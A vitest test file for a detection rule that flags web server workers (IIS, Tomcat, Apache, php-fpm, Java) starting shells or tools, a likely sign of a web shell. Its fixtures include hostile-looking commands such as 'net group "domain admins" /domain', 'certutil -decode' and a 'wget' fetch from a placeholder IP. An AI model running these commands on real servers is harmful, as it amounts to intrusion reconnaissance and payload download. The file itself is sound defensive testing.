import { expect, test } from 'vitest'
import { matchOf, processStart, saidBy, severityFor } from '../../../test/record-detector.ts'
import { workerStartsShell } from './worker-starts-shell.ts'

const IIS = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe'
const CMD = 'C:\\Windows\\System32\\cmd.exe'
const POOL = 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v2.0" -l "webengine4.dll"'

test('names the application pool from the worker and from the account', () => {
  const byLine = processStart({
    image: CMD,
    commandLine: 'cmd.exe /c net user',
    parentImage: IIS,
    parentCommandLine: POOL,
    user: 'NT AUTHORITY\\SYSTEM',
  })
  expect(saidBy(workerStartsShell, byLine)).toBe(
    'critical: w3wp.exe (application pool DefaultAppPool) started cmd.exe /c net user',
  )
  const byAccount = processStart({ image: CMD, commandLine: 'cmd.exe', parentImage: IIS, user: 'IIS APPPOOL\\Shop' })
  expect(matchOf(workerStartsShell, byAccount)).toEqual({
    title: 'w3wp.exe (application pool Shop) started cmd.exe',
    object: 'w3wp.exe',
    severity: 'high',
    techniques: ['T1505.003', 'T1059.003'],
    accounts: ['IIS APPPOOL\\Shop'],
  })
})

test.each([
  [
    'the command behind the shell',
    processStart({
      image: 'C:\\Windows\\System32\\whoami.exe',
      commandLine: 'whoami',
      parentImage: CMD,
      user: 'IIS APPPOOL\\Shop',
    }),
    'critical',
  ],
  ['no command line was logged', processStart({ image: CMD, parentImage: IIS, user: 'IIS APPPOOL\\Shop' }), 'high'],
  [
    'Tomcat service',
    processStart({ image: CMD, commandLine: 'cmd /C ipconfig /all', parentImage: 'C:\\tomcat\\bin\\tomcat9.exe' }),
    'critical',
  ],
  [
    'Java of a product',
    processStart({
      image: CMD,
      commandLine: 'cmd /C dir',
      parentImage: 'C:\\ManageEngine\\ADSelfService Plus\\jre\\bin\\java.exe',
    }),
    'high',
  ],
  [
    'PHP on Linux',
    processStart({ image: '/bin/dash', commandLine: 'sh -c id', parentImage: '/usr/sbin/apache2', user: 'www-data' }),
    'critical',
  ],
  [
    'archive',
    processStart({ image: 'C:\\Windows\\System32\\makecab.exe', commandLine: 'makecab a b', parentImage: IIS }),
    'medium',
  ],
  [
    'fetcher',
    processStart({ image: 'C:\\Windows\\System32\\certutil.exe', commandLine: 'certutil -decode a b', parentImage: IIS }),
    'critical',
  ],
  [
    'ColdFusion looks around',
    processStart({
      image: CMD,
      commandLine: 'cmd /c net group "domain admins" /domain',
      parentImage: 'C:\\ColdFusion2021\\cfusion\\bin\\coldfusion.exe',
    }),
    'critical',
  ],
  [
    'Exchange: a pool of the mail server packs',
    processStart({
      image: 'C:\\Windows\\System32\\makecab.exe',
      commandLine: 'makecab a b',
      parentImage: IIS,
      parentCommandLine: 'w3wp.exe -ap "MSExchangeOWAAppPool"',
    }),
    'medium',
  ],
  [
    'an archive of an application run by itself',
    processStart({
      image: '/bin/bash',
      commandLine: 'bash -c "id"',
      parentImage: '/usr/bin/java',
      parentCommandLine: 'java -jar /srv/shop.war',
    }),
    'critical',
  ],
  [
    'a product’s Java under a name of its own',
    processStart({
      image: CMD,
      commandLine: 'cmd.exe /c "whoami"',
      parentImage: 'C:\\Program Files\\Vendor\\jre\\bin\\java.exe',
      user: 'NT AUTHORITY\\SYSTEM',
    }),
    'medium',
  ],
  [
    'a log without parents names the web server’s account',
    processStart({ image: '/bin/sh', commandLine: 'sh -c id', parentImage: '', user: 'www-data' }),
    'critical',
  ],
  [
    'nginx with PHP on Linux fetches',
    processStart({
      image: '/usr/bin/wget',
      commandLine: 'wget http://203.0.113.9/f',
      parentImage: '/usr/sbin/php-fpm8.2',
      user: 'www-data',
    }),
    'critical',
  ],
  [
    'compiler on Linux',
    processStart({ image: '/usr/bin/gcc', commandLine: 'gcc -o x x.c', parentImage: '/usr/sbin/apache2' }),
    'high',
  ],
  // look-alikes
  [
    'a service’s Java asks for memory',
    processStart({
      image: CMD,
      commandLine: 'cmd.exe /c systeminfo',
      parentImage: 'C:\\Program Files\\Vendor\\jre\\bin\\java.exe',
      user: 'NT AUTHORITY\\SYSTEM',
    }),
    '',
  ],
  [
    'a developer’s Java asks who he is',
    processStart({
      image: CMD,
      commandLine: 'cmd.exe /c whoami',
      parentImage: 'C:\\jdk\\bin\\java.exe',
      user: 'EXAMPLE\\ann',
    }),
    '',
  ],
  [
    'a log without parents and somebody’s account',
    processStart({ image: '/bin/sh', commandLine: 'sh -c id', parentImage: '', user: 'ann' }),
    '',
  ],
  [
    'ASP.NET compiles a page',
    processStart({
      image: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe',
      commandLine: 'csc.exe /noconfig @a.cmdline',
      parentImage: IIS,
      parentCommandLine: POOL,
    }),
    '',
  ],
  [
    'its resource compiler',
    processStart({ image: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe', parentImage: IIS }),
    '',
  ],
  [
    'a build starts shells',
    processStart({
      image: CMD,
      commandLine: 'cmd /c whoami',
      parentImage: 'C:\\jdk\\bin\\java.exe',
      parentCommandLine: 'java -jar gradle-launcher.jar',
    }),
    '',
  ],
  [
    'some Java program',
    processStart({
      image: CMD,
      commandLine: 'cmd /c dir',
      parentImage: 'C:\\jdk\\bin\\java.exe',
      parentCommandLine: 'java -jar app.jar',
    }),
    '',
  ],
  [
    'PHP converts an image',
    processStart({ image: '/bin/sh', commandLine: "sh -c 'convert in.png out.jpg'", parentImage: '/usr/sbin/php-fpm8.2' }),
    'low',
  ],
  [
    'Exchange health manager',
    processStart({
      image: 'C:\\Windows\\System32\\netsh.exe',
      commandLine: 'netsh interface tcp show global',
      parentImage: 'C:\\Exchange\\Bin\\MSExchangeHMWorker.exe',
    }),
    '',
  ],
  ['a user at the keyboard', processStart({ image: CMD, parentImage: 'C:\\Windows\\explorer.exe', user: 'EXAMPLE\\ann' }), ''],
  [
    'the worker itself',
    processStart({ image: IIS, commandLine: POOL, parentImage: 'C:\\Windows\\System32\\svchost.exe', user: 'IIS APPPOOL\\Shop' }),
    '',
  ],
])('%s', (_name, event, severity) => {
  expect(severityFor(workerStartsShell, event)).toBe(severity)
})

test('a process that ends is not a process that starts', () => {
  expect(severityFor(workerStartsShell, processStart({ action: 'stop', image: CMD, parentImage: IIS }))).toBe('')
})
